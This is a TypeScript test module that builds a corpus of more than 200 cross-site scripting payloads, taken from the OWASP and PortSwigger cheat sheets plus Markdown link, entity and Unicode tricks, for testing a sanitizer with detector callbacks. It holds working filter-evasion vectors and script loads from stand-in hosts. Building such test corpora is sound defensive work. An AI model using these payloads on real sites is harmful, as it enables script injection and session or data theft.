// The XSS corpus: well over 200 distinct payloads, each of which, if it ran, would call
// window.__xss(n) or alert(n) with its own number (or fetch from a foreign host), so a hit names it.
// Drawn from maintained public lists and adapted to call the detector:
//   - OWASP's XSS Filter Evasion Cheat Sheet (cheatsheetseries.owasp.org): malformed tags, entity
//     and whitespace tricks in javascript: URLs, the polyglot, legacy vectors (STYLE, META, BASE…);
//   - PortSwigger's XSS cheat sheet (portswigger.net/web-security/cross-site-scripting/cheat-sheet):
//     its tag × event matrix (events that fire with no interaction: autofocus/onfocus, onbegin,
//     ontoggle, onanimationstart, onpageshow…), and its protocol and encoding vectors;
//   - Markdown-specific vectors: link and image schemes (javascript:, vbscript:, data:), autolinks,
//     reference definitions, titles that try to break out of the attribute, entity and Unicode
//     tricks, and raw HTML inside Markdown blocks.

type Template = (m: string, n: number) => string;

/** OWASP filter-evasion vectors (and a few classics every list carries). */
const OWASP: Template[] = [
  (m) => `<script>${m}</script>`,
  (_m, n) => `<SCRIPT SRC=//x${n}.example/xss.js></SCRIPT>`,
  (m) => `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"\`/+/onmouseover=1/+/[*/[]/+${m}//'>`,
  (m) => `<a onmouseover="${m}">xxs link</a>`,
  (m) => `<a onmouseover=${m}>xxs link</a>`,
  (m) => `<IMG """><SCRIPT>${m}</SCRIPT>">`,
  (_m, n) => `<IMG SRC=javascript:alert(String.fromCharCode(${[...String(n)].map((c) => c.charCodeAt(0)).join(',')}))>`,
  (m) => `<IMG SRC=# onmouseover="${m}">`,
  (m) => `<IMG SRC= onmouseover="${m}">`,
  (m) => `<IMG onmouseover="${m}">`,
  (m) => `<IMG SRC=/ onerror="${m}"></img>`,
  (_m, n) => `<img src=x onerror="&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040${[...String(n)].map((c) => `&#00000${c.charCodeAt(0)}`).join('')}&#0000041">`,
  (_m, n) => `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;${n}&#41;>`,
  (_m, n) => `<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(${n})>`,
  (_m, n) => `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28${n}&#x29>`,
  (m) => `<IMG SRC="jav\tascript:${m};">`,
  (m) => `<IMG SRC="jav&#x09;ascript:${m};">`,
  (m) => `<IMG SRC="jav&#x0A;ascript:${m};">`,
  (m) => `<IMG SRC="jav&#x0D;ascript:${m};">`,
  (m) => `<IMG SRC=java\u0000script:${m}>`,
  (m) => `<IMG SRC=" &#14;  javascript:${m};">`,
  (_m, n) => `<SCRIPT/XSS SRC="//x${n}.example/xss.js"></SCRIPT>`,
  (m) => `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=${m}>`,
  (_m, n) => `<SCRIPT/SRC="//x${n}.example/xss.js"></SCRIPT>`,
  (m) => `<<SCRIPT>${m};//\\<</SCRIPT>`,
  (_m, n) => `<SCRIPT SRC=//x${n}.example/xss.js?< B >`,
  (_m, n) => `<SCRIPT SRC=//x${n}.example/.j>`,
  (m) => `<IMG SRC="\`<javascript:${m}>\`"`,
  (_m, n) => `<iframe src=//x${n}.example/scriptlet.html <`,
  (m) => `\\";${m};//`,
  (m) => `</script><script>${m};</script>`,
  (m) => `</TITLE><SCRIPT>${m};</SCRIPT>`,
  (m) => `<INPUT TYPE="IMAGE" SRC="javascript:${m};">`,
  (m) => `<BODY BACKGROUND="javascript:${m}">`,
  (m) => `<IMG DYNSRC="javascript:${m}">`,
  (m) => `<IMG LOWSRC="javascript:${m}">`,
  (m) => `<STYLE>li {list-style-image: url("javascript:${m}");}</STYLE><UL><LI>XSS</br>`,
  (m) => `<IMG SRC='vbscript:${m}'>`,
  (m) => `<svg/onload=${m}>`,
  (_m, n) => `Set.constructor\`alert\\x28${n}\\x29\`\``,
  (m) => `<BODY ONLOAD=${m}>`,
  (m) => `<BGSOUND SRC="javascript:${m};">`,
  (m) => `<BR SIZE="&{${m}}">`,
  (_m, n) => `<LINK REL="stylesheet" HREF="//x${n}.example/xss.css">`,
  (_m, n) => `<STYLE>@import'//x${n}.example/xss.css';</STYLE>`,
  (_m, n) => `<META HTTP-EQUIV="Link" Content="<//x${n}.example/xss.css>; REL=stylesheet">`,
  (m) => `<STYLE>BODY{-moz-binding:url("javascript:${m}")}</STYLE>`,
  (m) => `<STYLE>@im\\port'\\ja\\vasc\\ript:${m}';</STYLE>`,
  (m) => `<IMG STYLE="xss:expr/*XSS*/ession(${m})">`,
  (m) => `<STYLE TYPE="text/javascript">${m};</STYLE>`,
  (m) => `<STYLE>.XSS{background-image:url("javascript:${m}");}</STYLE><A CLASS=XSS></A>`,
  (m) => `<STYLE type="text/css">BODY{background:url("javascript:${m}")}</STYLE>`,
  (m) => `<XSS STYLE="behavior: url(xss.htc);" onfocus=${m} tabindex=1>`,
  (m) => `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:${m};">`,
  (m) => `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,${Buffer.from(`<script>${m}</script>`).toString('base64')}">`,
  (m) => `<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:${m};">`,
  (m) => `<IFRAME SRC="javascript:${m};"></IFRAME>`,
  (m) => `<IFRAME SRC=# onmouseover="${m}"></IFRAME>`,
  (m) => `<FRAMESET><FRAME SRC="javascript:${m};"></FRAMESET>`,
  (m) => `<TABLE BACKGROUND="javascript:${m}">`,
  (m) => `<TABLE><TD BACKGROUND="javascript:${m}">`,
  (m) => `<DIV STYLE="background-image: url(javascript:${m})">`,
  (m) => `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a${m}'\\0029">`,
  (m) => `<DIV STYLE="width: expression(${m});">`,
  (m) => `<!--[if gte IE 4]><SCRIPT>${m};</SCRIPT><![endif]-->`,
  (_m, n) => `<BASE HREF="//x${n}.example/">`,
  (_m, n) => `<OBJECT TYPE="text/x-scriptlet" DATA="//x${n}.example/scriptlet.html"></OBJECT>`,
  (m) => `<EMBED SRC="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${m}"/>`).toString('base64')}" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  (m) => `<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:${m}"></B></I></XML>`,
  (m) => `<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>${m}</SCRIPT>"></BODY></HTML>`,
  (_m, n) => `<SCRIPT a=">" SRC="//x${n}.example/xss.js"></SCRIPT>`,
  (_m, n) => `<SCRIPT =">" SRC="//x${n}.example/xss.js"></SCRIPT>`,
  (_m, n) => `<SCRIPT "a='>'" SRC="//x${n}.example/xss.js"></SCRIPT>`,
  (_m, n) => `<SCRIPT a=\`>\` SRC="//x${n}.example/xss.js"></SCRIPT>`,
  (_m, n) => `<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="//x${n}.example/xss.js"></SCRIPT>`,
  (m) => `<A HREF="javascript:document.location='javascript:${m}'">XSS</A>`,
  (m) => `<img src=x:alert(alt) onerror=eval(src) alt=0 data-n="${m}">`,
  (m) => `<scr<script>ipt>${m}</scr</script>ipt>`,
  (m) => `<math><mtext><table><mglyph><style><img src=x onerror=${m}>`,
  (m) => `"><script>${m}</script>`,
  (m) => `'><img src=x onerror=${m}>`,
  (m) => `</textarea><script>${m}</script>`,
  (m) => `]]><script>${m}</script>`,
  (m) => `{{constructor.constructor('${m}')()}}`,
  (m) => `<noscript><p title="</noscript><img src=x onerror=${m}>">`,
  (m) => `<svg><style><img src=x onerror=${m}></style></svg>`,
  (m) => `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${m} src>">`,
];

/** PortSwigger's tag × event matrix: tags paired with events that fire on their own or on hover. */
const TAG_EVENTS: [string, string][] = [
  ['<img src=x onerror=%>', 'img onerror'],
  ['<image src=x onerror=%>', 'image onerror'],
  ['<audio src=x onerror=%>', 'audio onerror'],
  ['<video src=x onerror=%>', 'video onerror'],
  ['<video><source onerror=%></video>', 'source onerror'],
  ['<audio autoplay onloadstart=% src=x>', 'audio onloadstart'],
  ['<video autoplay onloadstart=% src=x>', 'video onloadstart'],
  ['<input type=image src=x onerror=%>', 'input image onerror'],
  ['<object data=x onerror=%>', 'object onerror'],
  ['<script src=x onerror=%></script>', 'script onerror'],
  ['<link rel=stylesheet href=x onerror=%>', 'link onerror'],
  ['<svg onload=%>', 'svg onload'],
  ['<svg><g onload=%></g></svg>', 'g onload'],
  ['<iframe onload=%></iframe>', 'iframe onload'],
  ['<iframe srcdoc="&lt;img src=x onerror=%&gt;"></iframe>', 'iframe srcdoc'],
  ['<body onload=%>', 'body onload'],
  ['<body onpageshow=%>', 'body onpageshow'],
  ['<body onfocus=%>', 'body onfocus'],
  ['<body onhashchange=%>', 'body onhashchange'],
  ['<body onresize=%>', 'body onresize'],
  ['<body onscroll=% style=height:3000px>', 'body onscroll'],
  ['<style onload=%></style>', 'style onload'],
  ['<input autofocus onfocus=%>', 'input autofocus'],
  ['<textarea autofocus onfocus=%></textarea>', 'textarea autofocus'],
  ['<select autofocus onfocus=%></select>', 'select autofocus'],
  ['<button autofocus onfocus=%>b</button>', 'button autofocus'],
  ['<keygen autofocus onfocus=%>', 'keygen autofocus'],
  ['<a id=x tabindex=1 onfocus=%></a>', 'a onfocus'],
  ['<div contenteditable autofocus onfocus=%>x</div>', 'contenteditable onfocus'],
  ['<input autofocus onfocusin=%>', 'input onfocusin'],
  ['<input onblur=% autofocus><input autofocus>', 'input onblur'],
  ['<details open ontoggle=%>', 'details ontoggle'],
  ['<svg><animate onbegin=% attributeName=x dur=1s>', 'animate onbegin'],
  ['<svg><set onbegin=% attributename=x to=1>', 'set onbegin'],
  ['<svg><animatetransform onbegin=% attributeName=transform>', 'animatetransform onbegin'],
  ['<svg><discard onbegin=%>', 'discard onbegin'],
  ['<svg><animate onend=% attributeName=x dur=1s>', 'animate onend'],
  ['<svg><animate onrepeat=% attributeName=x dur=1s repeatCount=2>', 'animate onrepeat'],
  ['<style>@keyframes x{}</style><div style="animation-name:x" onanimationstart=%></div>', 'onanimationstart'],
  ['<style>@keyframes y{}</style><div style="animation:y 1s" onanimationend=%></div>', 'onanimationend'],
  ['<div style="transition:color 1s" ontransitionend=% id=t>x</div>', 'ontransitionend'],
  ['<marquee onstart=%>x</marquee>', 'marquee onstart'],
  ['<marquee loop=1 width=0 onfinish=%>x</marquee>', 'marquee onfinish'],
  ['<div onmouseover=%>hover</div>', 'div onmouseover'],
  ['<div onmouseenter=%>hover</div>', 'div onmouseenter'],
  ['<div onmousemove=%>hover</div>', 'div onmousemove'],
  ['<div onpointerover=%>hover</div>', 'div onpointerover'],
  ['<div onpointerenter=%>hover</div>', 'div onpointerenter'],
  ['<div onpointermove=%>hover</div>', 'div onpointermove'],
  ['<div onmouseout=%>hover</div>', 'div onmouseout'],
  ['<div onclick=%>click</div>', 'div onclick'],
  ['<div ondblclick=%>click</div>', 'div ondblclick'],
  ['<div oncontextmenu=%>click</div>', 'div oncontextmenu'],
  ['<div onwheel=%>scroll</div>', 'div onwheel'],
  ['<div draggable=true ondragstart=%>drag</div>', 'div ondragstart'],
  ['<div oncopy=% contenteditable>copy</div>', 'div oncopy'],
  ['<div onpaste=% contenteditable>paste</div>', 'div onpaste'],
  ['<div onbeforeinput=% contenteditable>type</div>', 'div onbeforeinput'],
  ['<form onsubmit=%><button>go</button></form>', 'form onsubmit'],
  ['<form><button formaction=javascript:%>go</button></form>', 'button formaction'],
  ['<form action=javascript:%><input type=submit></form>', 'form action'],
  ['<isindex action=javascript:% type=submit>', 'isindex action'],
  ['<a href=javascript:%>link</a>', 'a href'],
  ['<a href="&#x6a;avascript:%">link</a>', 'a href entity'],
  ['<a href="javascript&colon;%">link</a>', 'a href colon entity'],
  ['<a href="jav&Tab;ascript:%">link</a>', 'a href tab entity'],
  ['<a href=" javascript:%">link</a>', 'a href leading space'],
  ['<a href="JAVASCRIPT:%">link</a>', 'a href upper'],
  ['<a href="data:text/html,<script>%</script>">link</a>', 'a href data'],
  ['<svg><a href="javascript:%"><text y=20>x</text></a></svg>', 'svg a href'],
  ['<svg><a xlink:href="javascript:%"><text y=20>x</text></a></svg>', 'svg xlink'],
  ['<math><maction actiontype=statusline xlink:href=javascript:%>x</maction></math>', 'maction'],
  ['<embed src=javascript:%>', 'embed src'],
  ['<object data=javascript:%></object>', 'object data'],
  ['<iframe src=javascript:%></iframe>', 'iframe src'],
  ['<frameset onload=%>', 'frameset onload'],
  ['<table background=javascript:%>', 'table background'],
  ['<svg><script>%</script></svg>', 'svg script'],
  ['<svg><script href=data:,% /></svg>', 'svg script href'],
  ['<script type=module>%</script>', 'script module'],
  ['<script>/*</script><script>*/%</script>', 'split script'],
  ['<xmp><p title="</xmp><img src=x onerror=%>">', 'xmp breakout'],
  ['<template><img src=x onerror=%></template>', 'template'],
  ['<slot onclick=%>x</slot>', 'slot onclick'],
  ['<dialog open onclose=%><form method=dialog><button autofocus>x</button></form></dialog>', 'dialog onclose'],
  ['<video controls onplay=% src=x></video>', 'video onplay'],
  ['<img src=x onload=% srcset=x>', 'img onload srcset'],
  ['<picture><source srcset=x><img onerror=%></picture>', 'picture onerror'],
  ['<meta http-equiv=refresh content="0;javascript:%">', 'meta refresh'],
  ['<base href=javascript:/%//>', 'base href'],
];

/** Markdown-specific vectors: schemes in links and images, autolinks, references, entities, Unicode, HTML blocks. */
const MARKDOWN: Template[] = [
  (m) => `[click](javascript:${m})`,
  (m) => `[click](JAVASCRIPT:${m})`,
  (m) => `[click](JaVaScRiPt:${m})`,
  (m) => `[click](  javascript:${m}  )`,
  (m) => `[click](<javascript:${m}>)`,
  (m) => `[click](javascript&#58;${m})`,
  (m) => `[click](javascript&colon;${m})`,
  (m) => `[click](&#x6A;avascript:${m})`,
  (m) => `[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:${m})`,
  (m) => `[click](javascript%3A${m})`,
  (m) => `[click](java%0ascript:${m})`,
  (m) => `[click](java\tscript:${m})`,
  (m) => `[click](jav&#x09;ascript:${m})`,
  (m) => `[click](\\javascript:${m})`,
  (m) => `[click](java\u200bscript:${m})`,
  (m) => `[click](javascript\u0000:${m})`,
  (m) => `[click](vbscript:${m})`,
  (m) => `[click](VBSCRIPT:${m})`,
  (m) => `[click](livescript:${m})`,
  (m) => `[click](data:text/html;base64,${Buffer.from(`<script>${m}</script>`).toString('base64')})`,
  (m) => `[click](data:text/html,<script>${m}</script>)`,
  (m) => `[click](DATA:text/html,<img src=x onerror=${m}>)`,
  (m) => `[click](data:image/svg+xml,<svg onload=${m}>)`,
  (m) => `[click](file:///etc/passwd#${m})`,
  (m) => `[a](https://example.org/" onclick="${m})`,
  (m) => `[a](https://example.org "title\\" onmouseover=\\"${m}")`,
  (m) => `[a](https://example.org 'x' onmouseover='${m}')`,
  (m) => `[a](https://example.org/?q=<script>${m}</script>)`,
  (m) => `[<img src=x onerror=${m}>](https://example.org)`,
  (m) => `[a](https://example.org)<img src=x onerror=${m}>`,
  (m) => `![img](javascript:${m})`,
  (m) => `![img](x" onerror="${m})`,
  (m) => `![x](https://example.org/x.png "t" onerror="${m}")`,
  (m) => `![<img src=x onerror=${m}>](x)`,
  (m) => `![img](data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${m}"/>`).toString('base64')})`,
  (m) => `[![img](x)](javascript:${m})`,
  (m) => `<javascript:${m}>`,
  (m) => `<JAVASCRIPT:${m}>`,
  (m) => `<vbscript:${m}>`,
  (m) => `<data:text/html,<script>${m}</script>>`,
  (m) => `<https://example.org/"><script>${m}</script>>`,
  (m) => `<https://example.org/" onmouseover="${m}">`,
  (m) => `<mailto:x@example.org?body=<script>${m}</script>>`,
  (m) => `<x@example.org" onmouseover="${m}>`,
  (m, n) => `[r${n}]: javascript:${m}\n[click][r${n}]`,
  (m, n) => `[r${n}]: <javascript:${m}>\n[click][r${n}]`,
  (m, n) => `[r${n}]: https://example.org "x\\" onmouseover=\\"${m}"\n[click][r${n}]`,
  (m, n) => `[r${n}]: data:text/html,<script>${m}</script>\n![img][r${n}]`,
  (m, n) => `[r${n}]: javascript:${m}\n[r${n}]`,
  (m) => `&lt;script&gt;${m}&lt;/script&gt;`,
  (m) => `&#60;script&#62;${m}&#60;/script&#62;`,
  (m) => `&#x3C;img src=x onerror=${m}&#x3E;`,
  (m) => `\\<script>${m}\\</script>`,
  (m) => `\\u003cscript\\u003e${m}\\u003c/script\\u003e`,
  (m) => `＜script＞${m}＜/script＞`,
  (m) => `\u202e>tpircs/<${m}>tpircs<`,
  (m) => `<scr\u0000ipt>${m}</scr\u0000ipt>`,
  (m) => `<\u200bscript>${m}</script>`,
  (m) => `ſcript ${m} <ſcript>${m}</ſcript>`,
  (m) => `\`<script>${m}</script>\``,
  (m) => `\`\`\`html\n<script>${m}</script>\n\`\`\``,
  (m) => `    <script>${m}</script>`,
  (m) => `**<img src=x onerror=${m}>**`,
  (m) => `*<svg onload=${m}>*`,
  (m) => `# <script>${m}</script>`,
  (m) => `> <img src=x onerror=${m}>`,
  (m) => `- <details open ontoggle=${m}>`,
  (m) => `1. [x](javascript:${m})`,
  (m) => `| a |\n|---|\n| <img src=x onerror=${m}> |`,
  (m) => `<div>\n\n<img src=x onerror=${m}>\n\n</div>`,
  (m) => `<div markdown="1">[x](javascript:${m})</div>`,
  (m) => `<details><summary>x</summary>\n\n<script>${m}</script>\n\n</details>`,
  (m) => `<!-- --><script>${m}</script><!-- -->`,
  (m) => `<!-- <script>${m}</script> -->`,
  (m) => `<![CDATA[<script>${m}</script>]]>`,
  (m) => `<?php echo "<script>${m}</script>"; ?>`,
  (m) => `[x](#" onclick="${m})`,
  (m) => `[x]( javascript:${m} "title")`,
  (m) => `[[x](javascript:${m})](https://example.org)`,
  (m) => `[x](https://example.org)[y](javascript:${m})`,
  (m) => `\\[x\\](javascript:${m})`,
  (m) => `[x](javascript://example.org/%0a${m})`,
  (m) => `[x](javascript://%0d%0a${m})`,
  (m) => `https://example.org/<script>${m}</script>`,
  (m) => `www.example.org/"onmouseover="${m}"`,
  (m) => `_<img src=x onerror=${m}>_`,
  (m) => `~~<svg onload=${m}>~~`,
  (m) => `<sub><img src=x onerror=${m}></sub>`,
];

const detectorCall = (n: number) => (n % 2 ? `window.__xss(${n})` : `alert(${n})`);

/**
 * The corpus, deterministic: every template once, each with its own number. The templates are
 * distinct (the spec checks it with the numbers masked), so no payload is a padded copy of another.
 */
export function xssCorpus(): string[] {
  const templates: Template[] = [...OWASP, ...TAG_EVENTS.map(([html]) => (m: string) => html.replace('%', m)), ...MARKDOWN];
  return templates.map((template, i) => template(detectorCall(i + 1), i + 1));
}

/** A payload with its number masked, so that distinctness cannot come from the numbers alone. */
export function payloadShape(payload: string): string {
  return payload.replace(/\d+/g, 'N');
}

/**
 * Pairs in which one payload is another with nothing but padding (letters and spaces) around it,
 * numbers masked: what a corpus padded to a count would contain. Real variants, such as a breakout
 * prefix ("><script>…) or a Markdown wrapper (# <script>…), add markup and are not reported.
 */
export function paddedCopies(corpus: string[]): [string, string][] {
  const shapes = corpus.map(payloadShape);
  const found: [string, string][] = [];
  shapes.forEach((inner, i) =>
    shapes.forEach((outer, j) => {
      if (i === j || !outer.includes(inner)) return;
      const rest = outer.replace(inner, '');
      if (rest === '' || (/^[\sA-Za-z]*$/.test(rest) && /[A-Za-z]/.test(rest))) found.push([corpus[i], corpus[j]]);
    }),
  );
  return found;
}

/** Packs payloads into strings of at most `limit` characters, separated by `sep`. */
export function pack(payloads: string[], limit: number, sep = ' '): string[] {
  const out: string[] = [];
  let current = '';
  for (const p of payloads) {
    const next = current ? `${current}${sep}${p}` : p;
    if (next.length > limit && current) {
      out.push(current);
      current = p.slice(0, limit);
    } else current = next.slice(0, limit);
  }
  if (current) out.push(current);
  return out;
}
